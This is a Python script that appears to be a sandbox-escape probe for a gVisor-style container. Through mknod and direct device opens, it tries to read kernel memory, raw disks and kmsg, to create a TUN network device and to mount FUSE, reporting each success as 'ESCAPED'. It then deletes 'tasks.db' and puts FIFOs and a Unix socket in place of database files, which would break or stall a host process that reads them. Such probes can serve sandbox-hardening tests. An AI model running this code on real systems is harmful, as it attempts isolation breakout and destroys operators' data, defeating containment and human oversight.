import ctypes
import fcntl
import os
import socket
import stat
import struct

for name, kind, device in (("mem", stat.S_IFCHR, os.makedev(1, 1)), ("disk", stat.S_IFBLK, os.makedev(254, 0)), ("kmsg", stat.S_IFCHR, os.makedev(1, 11))):
    try:
        os.mknod(name, 0o666 | kind, device)
        with open(name, "rb") as file:
            print("ESCAPED: read", name, file.read(16))
    except OSError:
        pass
for name in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm"):
    try:
        open(name, "rb").close()
        print("ESCAPED: opened", name)
    except OSError:
        pass
# gVisor's kernel has these two of its own, for whoever may use them: to make a network device, or to mount what answers.
TUNSETIFF, TUN, NO_PACKET_INFORMATION = 0x400454CA, 1, 0x1000
try:
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, TUNSETIFF, struct.pack("16sH22x", b"", TUN | NO_PACKET_INFORMATION))
    print("ESCAPED: made a network device")
except OSError:
    pass
try:
    device = os.open("/dev/fuse", os.O_RDWR)
    options = f"fd={device},rootmode=40000,user_id={os.getuid()},group_id={os.getgid()}".encode()
    if ctypes.CDLL(None, use_errno=True).mount(b"fuse", os.getcwd().encode(), b"fuse", 0, options) == 0:
        print("ESCAPED: mounted")
except OSError:
    pass
if os.path.exists("tasks.db"):
    os.unlink("tasks.db")
for name in ("tasks.db", "pipe.db"):
    if not os.path.exists(name):
        os.mkfifo(name)
if not os.path.exists("socket.db"):
    socket.socket(socket.AF_UNIX).bind("socket.db")
print("attack ran", flush=True)
os._exit(0)
